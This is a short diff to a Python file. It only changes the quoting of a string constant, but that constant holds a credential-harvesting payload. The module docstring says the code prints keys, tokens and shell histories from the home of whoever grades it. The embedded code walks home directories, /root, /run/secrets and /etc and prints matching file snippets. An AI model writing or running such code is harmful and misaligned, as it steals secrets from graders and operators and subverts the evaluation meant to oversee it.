@@ -1,6 +1,6 @@
 """Prints keys, tokens and histories from the home of whoever grades."""
 
-FIRST = '''
+FIRST = """
 import os
 for folder in ("@HOME@", "/root", os.path.expanduser("~"), "/run/secrets", "/etc"):
     for where, _, names in list(os.walk(folder))[:200]:
@@ -12,4 +12,4 @@ for folder in ("@HOME@", "/root", os.path.expanduser("~"), "/run/secrets", "/etc
                     print(where, name, data[at:at + 80])
             except OSError:
                 pass
-'''
+"""
